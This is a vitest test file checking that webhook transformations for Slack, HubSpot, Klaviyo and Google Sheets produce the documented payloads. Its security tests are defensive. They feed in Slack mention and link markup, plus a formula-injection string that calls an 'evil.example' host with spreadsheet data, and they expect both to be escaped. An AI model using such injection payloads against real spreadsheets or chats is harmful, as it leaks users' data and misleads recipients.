import { type TSchema, Type } from '@sinclair/typebox';
import { Value } from '@sinclair/typebox/value';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Publisher } from '../../../src/catalog/types.ts';
import { gallery } from '../../../src/webhooks/transformations/gallery.ts';
import { previewTransformation } from '../../../src/webhooks/transformations/preview.ts';
import { createWebhooksApp, type WebhooksApp } from '../app.ts';

let t: WebhooksApp;
beforeAll(async () => {
  t = await createWebhooksApp();
});
afterAll(() => t.close());

const strict = { additionalProperties: false };
const text = Type.String({ minLength: 1 });
const identifier = <Kind extends string>(type: Kind, attributes: TSchema) =>
  Type.Object({ data: Type.Object({ type: Type.Literal(type), attributes }, strict) }, strict);

/** Bodies that the services document for these calls. */
const shapes: Readonly<Record<string, TSchema>> = {
  Slack: Type.Object({ text: Type.String({ minLength: 1, maxLength: 40_000 }) }, strict),
  HubSpot: Type.Object(
    {
      inputs: Type.Array(
        Type.Object({ idProperty: text, id: text, properties: Type.Record(Type.String(), Type.String()) }, strict),
        { minItems: 1, maxItems: 100 },
      ),
    },
    strict,
  ),
  Klaviyo: Type.Object(
    {
      data: Type.Object(
        {
          type: Type.Literal('event'),
          attributes: Type.Object(
            {
              unique_id: text,
              time: Type.String({ pattern: '^\\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z$' }),
              value: Type.Optional(Type.Number()),
              value_currency: Type.Optional(Type.String({ pattern: '^[A-Z]{3}$' })),
              properties: Type.Record(Type.String(), Type.Unknown()),
              metric: identifier('metric', Type.Object({ name: text }, strict)),
              profile: identifier('profile', Type.Object({ external_id: text }, strict)),
            },
            strict,
          ),
        },
        strict,
      ),
    },
    strict,
  ),
  Google_Sheets: Type.Object(
    {
      values: Type.Array(Type.Array(Type.Union([Type.String(), Type.Number()]), { minItems: 7, maxItems: 7 }), {
        minItems: 1,
        maxItems: 1,
      }),
    },
    strict,
  ),
};

const userEvents = ['usp.selection', 'conversion', 'offer_saved', 'offer_removed'];

describe.for(gallery.map((entry) => [entry.key, entry] as const))('the expression for %s', ([, entry]) => {
  test.for(userEvents)('turns %s into the documented format of the service', async (event) => {
    const publisher = t.deps.catalog.current().publishers.get(t.publisher.id) as Publisher;
    const deps = { ...t.deps, events: t.contributions.events, transformer: t.deps.transformer };
    const preview = await previewTransformation(deps, publisher, entry.transformation, { event });
    expect(preview.failure).toBeNull();
    const body: unknown = JSON.parse(preview.body ?? '');
    const shape = shapes[entry.key] as TSchema;
    expect([...Value.Errors(shape, body)].map(({ path, message }) => `${path}: ${message}`)).toEqual([]);
    expect(preview.bodyBytes).toBe(Buffer.byteLength(preview.body ?? ''));
  });
});

/** Applies the expression for a service to a payload. The delivery was created on 1 January 2026 at midnight UTC. */
async function applied(key: string, event: string, payload: object): Promise<unknown> {
  const outcome = await t.deps.transformer.apply({
    transformation: gallery.find((entry) => entry.key === key)?.transformation ?? {},
    deliveryId: '019b76da-a800-7000-8000-000000000001',
    event,
    dev: false,
    payload: Buffer.from(JSON.stringify(payload)),
    publisherId: 1,
  });
  return 'parts' in outcome ? JSON.parse(String(outcome.parts.body)) : outcome;
}

const selection = (userId: string, title: string) => ({ body: { pub_user_id: userId, campaigns: [{ title }] } });

test('the expression for Slack escapes markup, so that names cannot mention users or disguise links', async () => {
  expect(await applied('Slack', 'usp.selection', selection('<!channel>', 'A & <http://x|B>'))).toEqual({
    text: '*usp.selection*\nUser &lt;!channel&gt; selected A &amp; &lt;http://x|B&gt;',
  });
});

test('the expression for Google Sheets writes texts that look like formulas as texts', async () => {
  const formula = '=IMPORTXML("https://evil.example/"&A1)';
  expect(await applied('Google_Sheets', 'usp.selection', selection(formula, '+1 month'))).toMatchObject({
    values: [['2026-01-01T00:00:00.000Z', 'usp.selection', `'${formula}`, "'+1 month", '', '', expect.anything()]],
  });
  expect(await applied('Google_Sheets', 'offer_saved', { pub_user_id: '-7', headline: 'A = B' })).toMatchObject({
    values: [[expect.anything(), 'offer_saved', "'-7", 'A = B', '', '', expect.anything()]],
  });
});

test('a selection that is sent again days later has the time at which it happened', async () => {
  expect(await applied('HubSpot', 'usp.selection', selection('user-1', 'A'))).toMatchObject({
    inputs: [{ properties: { last_perk_at: '2026-01-01T00:00:00.000Z' } }],
  });
  expect(await applied('Klaviyo', 'usp.selection', selection('user-1', 'A'))).toMatchObject({
    data: { attributes: { time: '2026-01-01T00:00:00.000Z' } },
  });
});
